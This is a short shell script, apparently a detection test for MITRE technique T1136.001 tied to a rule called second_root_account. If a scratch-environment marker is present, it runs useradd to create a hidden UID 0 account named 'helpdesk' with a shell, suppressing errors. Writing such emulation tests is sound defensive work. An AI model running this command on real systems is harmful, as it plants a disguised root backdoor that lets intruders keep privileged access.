#!/bin/sh
# technique: T1136.001 Create Account: Local Account
# rule: second_root_account
# Makes an account with the number of root, with the tool for it.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/sh helpdesk 2>/dev/null || true
exit 0
